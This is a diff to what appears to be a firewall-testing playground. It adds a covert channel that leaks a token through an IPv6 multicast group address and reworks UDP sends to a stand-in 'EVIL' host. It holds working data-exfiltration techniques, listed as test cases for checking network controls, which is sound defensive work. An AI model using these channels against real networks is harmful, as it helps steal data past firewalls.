@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import socket
 import struct
+import time
 from ipaddress import IPv6Address, IPv6Network
 
 from dnsfw.playground import atlas
@@ -19,6 +20,7 @@ _IPPROTO_MPTCP = 262
 _IPPROTO_UDPLITE = 136
 _SO_BINDTODEVICE = 25
 _SO_MARK = 36
+_IP_RECVERR, _IPV6_RECVERR = 11, 25
 
 
 def _tell(address: str, port: int, loot: Loot) -> None:
@@ -69,11 +71,31 @@ def address_is_the_message(loot: Loot) -> None:
     _tell(str(IPv6Address(int(network) + int(loot.token, 16))), 443, loot)
 
 
+def group_is_the_message(loot: Loot) -> None:
+    """Joining a multicast group makes the kernel itself report the group's address to the link (RFC 9777)."""
+    group = int(IPv6Address("ff0e::")) + int(loot.token, 16)
+    for index, name in socket.if_nameindex():
+        if name != "lo":
+            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as joining:
+                request = IPv6Address(group).packed + struct.pack("=I", index)
+                joining.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, request)
+                time.sleep(0.1)  # leaving at once would take the report back
+
+
+def _datagrams(address: str) -> socket.socket:
+    """A UDP socket that hears of refusals without being connected (ip(7), IP_RECVERR)."""
+    if ":" in address:
+        telling = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        telling.setsockopt(socket.IPPROTO_IPV6, _IPV6_RECVERR, 1)
+    else:
+        telling = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        telling.setsockopt(socket.IPPROTO_IP, _IP_RECVERR, 1)
+    return telling
+
+
 def _send(address: str, port: int, loot: Loot) -> None:
-    family = socket.AF_INET6 if ":" in address else socket.AF_INET
-    with socket.socket(family, socket.SOCK_DGRAM) as telling:
+    with _datagrams(address) as telling:
         telling.sendto(loot.token.encode(), (address, port))
-        telling.connect((address, port))  # so that a refusal reaches us
         telling.recv(2)
 
 
@@ -103,9 +125,8 @@ def udp_123(loot: Loot) -> None:
 
 def fragments(loot: Loot) -> None:
     """One datagram in several IP packets (RFC 791 section 3.2), of which only the first has ports."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as telling:
+    with _datagrams(atlas.EVIL.v4) as telling:
         telling.sendto(loot.token.encode() * 400, (atlas.EVIL.v4, _PORT))
-        telling.connect((atlas.EVIL.v4, _PORT))
         telling.recv(2)
 
 
@@ -139,11 +160,12 @@ WAYS = (
     Way("tcp-other-port", "another port of an allowed address", (22,), other_port),
     Way("tcp-syn-data", "data inside the SYN (TCP Fast Open)", (22,), in_the_syn),
     Way("tcp-multipath", "Multipath TCP", (24,), multipath),
-    Way("address-spells", "an IPv6 address that spells the message", (22,), address_is_the_message),
+    Way("address-spells", "an IPv6 address that is the message", (22,), address_is_the_message),
+    Way("group-spells", "a multicast group that is the message", (22, 24), group_is_the_message),
     Way("udp4", "UDP to a bare IPv4 address", (22,), udp_v4),
     Way("udp6", "UDP to a bare IPv6 address", (22,), udp_v6),
     Way("udp-connected", "UDP from a connected socket", (22, 23), udp_connected),
-    Way("udp-443", "UDP 443 (as QUIC) of an allowed address", (22,), udp_443),
+    Way("udp-443", "UDP 443 (QUIC) of an allowed address", (22,), udp_443),
     Way("udp-123", "UDP port 123 (as NTP)", (22,), udp_123),
     Way("udp-fragments", "a datagram in fragments", (24,), fragments),
     Way("udp-lite", "UDP-Lite", (24,), udp_lite),
